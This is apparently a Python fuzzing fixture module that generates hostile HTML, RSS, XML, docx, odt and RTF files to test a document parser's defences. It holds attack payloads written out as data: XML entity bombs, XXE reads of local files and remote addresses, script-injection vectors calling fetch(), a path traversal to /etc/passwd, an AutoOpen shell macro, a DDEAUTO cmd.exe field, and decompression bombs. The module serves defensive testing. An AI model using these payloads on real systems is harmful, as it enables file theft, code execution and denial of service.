"""Pages, feeds, XML and documents of word processors made to do harm."""

from __future__ import annotations

from collections.abc import Iterator

from fuzz.hostile.archives import WORDS, packed

Files = Iterator[tuple[str, bytes]]
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def files(secret: str, address: str, marker: str) -> Files:
    """Those that are small."""
    entities = dict(_entities(secret, address))
    for name, head in entities.items():
        yield f"{name}.rss", head + b"<rss><channel><title>&x;</title><item><title>&x;</title></item></channel></rss>"
        yield f"{name}.xhtml", head + b"<html><body><p>&x; " + WORDS + b"</p></body></html>"
        yield (
            f"{name}.docx",
            _docx(head + b"<w:document " + _W + b"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"),
        )
        yield (
            f"{name}.odt",
            _odt(
                head
                + b'<o:d xmlns:o="%s" xmlns:t="%s"><o:text><t:p>&x;</t:p></o:text></o:d>'
                % (_OFFICE.encode(), _TEXT.encode())
            ),
        )
        yield f"{name}.svg.html", head + b"<svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"
    yield from _pages(secret, address, marker)
    yield from _feeds(address)
    yield from _documents(address)


def heavy() -> Files:
    """Those that are large."""
    yield "deep.html", b"<html><body>" + b"<div>" * 300_000 + WORDS
    yield "deep-spans.html", b"<html><body>" + b"<b><i>" * 200_000 + WORDS
    yield "many-cells.html", b"<html><body><table>" + b"<tr>" + b"<td>1" * 300_000 + b"</table>"
    yield "many-attributes.html", b"<html><body><p " + b" ".join(b"a%d=1" % i for i in range(200_000)) + b">" + WORDS
    yield "one-line.html", b"<html><body><p>" + b"At least 12 civilians were killed. " * 100_000
    yield (
        "many-entries.rss",
        b"<rss><channel>" + b"<item><title>12 killed</title></item>" * 600 + b"</channel></rss>",
    )
    body = b"<w:p><w:r><w:t>12 killed in Homs.</w:t></w:r></w:p>" * 60_000
    yield "many-paragraphs.docx", _docx(b"<w:document " + _W + b"><w:body>" + body + b"</w:body></w:document>")
    yield "bomb.docx", _docx(b"<w:document " + _W + b"><w:body>" + b" " * (200 << 20) + b"</w:body></w:document>")
    yield "bomb-other-part.docx", _docx(_plain(), {"word/media/image1.png": b"\0" * (300 << 20)})
    yield "bomb.odt", _odt(b"<a>" + b" " * (200 << 20) + b"</a>")


def _entities(secret: str, address: str) -> Files:
    start = b'<?xml version="1.0"?><!DOCTYPE x ['
    laughs = b'<!ENTITY a0 "ha">' + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 12))
    yield "laughs", start + laughs + b'<!ENTITY x "&a11;">]>'
    yield "quadratic", start + b'<!ENTITY a "' + b"x" * 50_000 + b'"><!ENTITY x "' + b"&a;" * 5000 + b'">]>'
    yield "entity-file", start + b'<!ENTITY x SYSTEM "file://%s">]>' % secret.encode()
    yield "entity-address", start + b'<!ENTITY x SYSTEM "%s">]>' % address.encode()
    yield "entity-parameter", start + b'<!ENTITY %% p SYSTEM "%s"> %%p; <!ENTITY x "y">]>' % address.encode()
    yield "entity-itself", start + b'<!ENTITY x "&x;">]>'
    yield "other-dtd", b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "%s">' % address.encode()
    yield "entity-device", start + b'<!ENTITY x SYSTEM "file:///dev/zero">]>'


def _pages(secret: str, address: str, marker: str) -> Files:
    a, s = address.encode(), secret.encode()
    said = b"<p>" + WORDS + b"</p>"
    inside = (
        b"<script>fetch('%s')</script>" % a,
        b"<img src=x onerror=\"fetch('%s')\">" % a,
        b"<svg onload=\"fetch('%s')\"><script href='%s'/></svg>" % (a, a),
        b"<iframe src='%s'></iframe><object data='file://%s'></object>" % (a, s),
        b"<meta http-equiv=refresh content='0;url=%s'>" % a,
        b"<base href='%s'><link rel=stylesheet href=x><link rel=import href=y>" % a,
        b"<style>@import url('%s'); p{background:url(%s)}</style>" % (a, a),
        b"<a href='javascript:alert(1)'>x</a><form action='%s'><input name=p></form>" % a,
        b"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://%s' parse='text'/>" % s,
        b"<!--[if IE]><script>1</script><![endif]--><noscript><p>none</p></noscript>",
        b"<template><p>unseen</p></template><plaintext>",
        b"<embed src='%s'><video src='%s' autoplay><audio src='%s'>" % (a, a, a),
        b"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        b"<div title='`><script>1</script>'>", b"<title></title><script>/*</script>", b"<!-- unclosed",
        b"<![CDATA[ x ]]>", b"&#x110000;&#0;&#xD800;&#99999999999;&nosuch;" * 50, b"\0\0<p\0>\0", b"<p>\xe2\x80\xae\xd9\xa7</p>" * 40,
        b"<time datetime='99999-99-99'>x</time><meta property='article:published_time' content='0000-00-00T99:99'>",
        b"<script type='application/ld+json'>" + b"[" * 30_000 + b"</script>",
        b"<script type='application/ld+json'>{\"datePublished\": " + b"9" * 5000 + b"}</script>",
        b"<meta name=date content='" + b"1-" * 20_000 + b"'>", b"<title>" + b"a " * 50_000 + b"</title>",
        b"<p " * 20_000, b"<" * 50_000, b"</div>" * 50_000, b"<p>" + b"&amp" * 50_000, b"<table>" * 2000,
        b"<a href='" + b"http://x.org/" * 5000 + b"'>x</a>", b"<img src='data:image/png;base64," + b"A" * 100_000 + b"'>",
    )  # fmt: skip
    for number, markup in enumerate(inside):
        yield f"page-{number}.html", b"<!doctype html><html><body>" + said + markup + said + b"</body></html>"
    for number, charset in enumerate(
        (b"utf-7", b"utf-16", b"klingon", b"base64", b"utf-8", b"x-user-defined", b"iso-2022-jp")
    ):
        body = b"<html><head><meta charset=%s></head><body><p>+ADw-script+AD4- \xff\xfe " % charset
        yield f"charset-{number}.html", body + WORDS + b"</p></body></html>"
    whole = b"<html><body>" + said + b"</body></html>"
    yield "utf16.html", b"\xff\xfe" + whole.decode().encode("utf-16-le")
    yield "utf32.html", whole.decode().encode("utf-32")
    yield "nul.html", whole.replace(b"killed", b"kil\0led")
    yield "picture.html", b"\x89PNG\r\n\x1a\n" + whole
    yield "script.html", b"#!/bin/sh\ntouch " + marker.encode() + b"\n"
    yield "only-tags.html", b"<html></html>"
    yield "deep-some.html", b"<html><body>" + b"<div>" * 5000 + said
    yield "deep-lists.html", b"<html><body>" + b"<ul><li>" * 3000 + WORDS
    svg = (
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><script>fetch('%s')</script><image href='%s'/></svg>"
        % (a, a)
    )
    yield "script.svg", svg
    yield "svg-called-page.html", svg
    yield "svg-called-text.txt", svg


def _feeds(address: str) -> Files:
    a = address.encode()
    item = b"<item><title>12 killed</title><description>%s</description></item>"
    head, tail = b"<?xml version='1.0'?><rss><channel><title>T</title>", b"</channel></rss>"
    inside = (
        b"&lt;script src='%s'&gt;&lt;/script&gt;12 killed" % a, b"<![CDATA[<img src='%s'>12 killed]]>" % a, b"<b>" * 20_000,
        b"&lt;div&gt;" * 20_000, b"\xff\xfe\x00", b"<x:y/>", b"]]>", b"x" * (1 << 20), b"&nbsp;&bogus;",
    )  # fmt: skip
    for number, content in enumerate(inside):
        yield f"feed-{number}.rss", head + item % content + tail
    for number, day in enumerate(
        (b"Mon, 99 Nov 99999", b"1" * 20_000, b"-1", b"0000-00-00T00:00:00Z", b"9" * 400, b"\0")
    ):
        yield (
            f"feed-day-{number}.rss",
            head + b"<item><pubDate>" + day + b"</pubDate><title>12 killed</title></item>" + tail,
        )
    for number, encoding in enumerate((b"utf-7", b"klingon", b"utf-16", b"base64", b"cp037")):
        yield (
            f"feed-encoding-{number}.xml",
            b"<?xml version='1.0' encoding='%s'?><rss>" % encoding + item % b"x" + b"</rss>",
        )
    yield "feed-cut.rss", (head + item % b"x")[:-20]
    yield "feed-deep.atom", b"<feed>" + b"<entry>" * 5000
    yield "feed-empty.rss", head + tail
    yield "feed-xslt.xml", b"<?xml version='1.0'?><?xml-stylesheet href='%s'?>" % a + head[21:] + item % b"x" + tail


def _documents(address: str) -> Files:
    a = address.encode()
    w = b"<w:document " + _W + b"><w:body>%s</w:body></w:document>"
    one = b"<w:p><w:r><w:t>" + WORDS + b"</w:t></w:r></w:p>"
    yield "plain.docx", _docx(_plain())
    yield "deep-tables.docx", _docx(w % (b"<w:tbl><w:tr><w:tc>" * 2000 + one + b"</w:tc></w:tr></w:tbl>" * 2000))
    yield "deep.docx", _docx(w % (b"<w:p>" * 5000 + b"</w:p>" * 5000))
    yield "cut.docx", _docx(_plain())[:-200]
    yield "not-xml.docx", _docx(b"\x89PNG\r\n")
    yield "empty-body.docx", _docx(w % b"")
    yield "no-body.docx", _docx(b"<w:document " + _W + b"/>")
    template = (
        b"<Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s' %s/>"
    )
    outside = template % (b"attachedTemplate", b"Target='%s' TargetMode='External'" % a)
    yield "template.docx", _docx(_plain(), relations=outside)
    yield "slip.docx", _docx(_plain(), relations=template % (b"image", b"Target='../../../../etc/passwd'"))
    yield "itself.docx", _docx(_plain(), relations=template % (b"image", b"Target='document.xml'"))
    yield "macros.docx", _docx(_plain(), {"word/vbaProject.bin": b'Sub AutoOpen()\nShell("touch x")\nEnd Sub'})
    yield "core.docx", _docx(_plain(), {"docProps/core.xml": b"<a>" * 10_000})
    yield "field.docx", _docx(w % (b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>" + one))
    yield "no-types.docx", packed([("word/document.xml", _plain())])
    yield "wrong-types.docx", packed([("word/document.xml", _plain()), ("[Content_Types].xml", b"<x>")])
    yield "deep.odt", _odt(b"<a>" * 5000)
    yield "not-xml.odt", _odt(b"\0\1\2")
    spaces = b'<o:d xmlns:o="%s" xmlns:t="%s"><o:text><t:p><t:s t:c="%s"/>x</t:p></o:text></o:d>'
    for number, count in enumerate((b"999999999", b"-1", b"abc")):
        yield f"spaces-{number}.odt", _odt(spaces % (_OFFICE.encode(), _TEXT.encode(), count))
    yield (
        "sheet.ods",
        packed([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<a/>")]),
    )
    yield "book.xlsx", packed([("[Content_Types].xml", b"<a/>"), ("xl/workbook.xml", b"<a/>")])
    rtf = (
        b"{" * 50_000, b"}" * 50_000, b"\\bin999999999 x", b"\\u-99999999?" * 10_000, b"\\'zz\\'" * 10_000, b"{\\object\\objdata 41}",
        b"{\\field{\\*\\fldinst INCLUDEPICTURE \"%s\"}}" % a, b"\\uc999999\\u1?", b"\\ansicpg99999 x\\'ff", b"\\par" * 200_000,
        b"{\\*\\template %s}" % a, b"\\" * 50_000, b"\\'ff" * 20_000,
    )  # fmt: skip
    for number, content in enumerate(rtf):
        yield f"rich-{number}.rtf", b"{\\rtf1\\ansi " + content + b" " + WORDS + b"}"


def _plain() -> bytes:
    return b"<w:document " + _W + b"><w:body><w:p><w:r><w:t>" + WORDS + b"</w:t></w:r></w:p></w:body></w:document>"


def _docx(document: bytes, more: dict[str, bytes] | None = None, relations: bytes = b"") -> bytes:
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
    types += (
        b'ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    )
    types += b'relationships+xml"/><Override PartName="/word/document.xml" ContentType="%s"/></Types>' % kind
    space = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    root = space + b'<Relationship Id="r1" Type="%s" Target="word/document.xml"/></Relationships>' % office
    members: list[tuple[str, bytes]] = [
        ("[Content_Types].xml", types),
        ("_rels/.rels", root),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", space + relations + b"</Relationships>"),
    ]
    return packed([*members, *(more or {}).items()])


def _odt(content: bytes) -> bytes:
    return packed([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content)])
